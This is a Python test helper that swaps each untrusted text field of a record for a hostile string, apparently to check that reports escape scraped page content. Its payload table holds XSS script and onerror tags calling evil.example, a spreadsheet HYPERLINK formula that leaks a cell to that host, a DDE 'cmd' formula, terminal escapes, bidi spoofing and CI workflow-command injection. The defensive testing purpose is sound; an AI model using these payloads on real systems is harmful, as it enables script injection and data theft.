"""Records whose every free text is replaced by a hostile one."""

from typing import TypeVar

import msgspec

R = TypeVar("R", bound=msgspec.Struct)

# Written by the program or taken from the config's closed alphabet: never what a page says.
OURS = frozenset(
    {"id", "check", "checks", "findings", "schema", "site", "unit", "config_sha256", "against"}
    | {"new", "fixed", "reopened", "first_seen", "due", "mode", "status", "version", "limit"}
    | {"tool", "rulebook", "vetoes", "labels", "started", "finished", "at"}
)

HOSTILE = {
    "script": "<script>document.title='ran';fetch('http://evil.example/s')</script>",
    "image": "\"'><img src=http://evil.example/x.png onerror=\"document.title='ran'\">",
    "style": "</style></script><style>@import 'http://evil.example/a.css';*{display:none}</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=//evil.example>",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7 %>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "command": "@SUM(1+1)*cmd|'/c calc'!A1\t=1+1\r\n=2+2\n+3\n-4",
    "controls": "".join(map(chr, range(32))) + "\x7f\x80\x9b31m控制\u2028\u2029\ufffe\uffff",
    "terminal": "\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.example/\x1b\\点\x1b]8;;\x1b\\\x9b2J\x08\x08",
    "direction": "\u202eexe.fdp\u202c\u2066藏\u2069\u200b\ufeff",
    "markup": "[/foo][bold red]粗[/][link=http://evil.example/]x[/link]\\[",
    "workflow": "%0A::error title=x::y\n::stop-commands::t\r\n::set-output name=a::b]]>&amp;<!--",
    "surrogate": "\ud800落单\udfff\ud83d",
    "long": "很长的标题" * 8_000,
    "wide": "W" * 40_000,
}


def poisoned(record: R, text: str) -> R:
    """The record with `text` wherever a page could have had a say."""
    changed: dict[str, object] = {}
    for name in record.__struct_fields__:
        if name not in OURS or isinstance(getattr(record, name), tuple):
            changed[name] = _poisoned(getattr(record, name), text, kept=name in OURS)
    return msgspec.structs.replace(record, **changed)


def _poisoned(value: object, text: str, *, kept: bool) -> object:
    if isinstance(value, msgspec.Struct):
        return poisoned(value, text)
    if isinstance(value, tuple):
        return tuple(_poisoned(one, text, kept=kept) for one in value)
    if type(value) is str and value and not kept:  # not a closed code
        return text
    return value
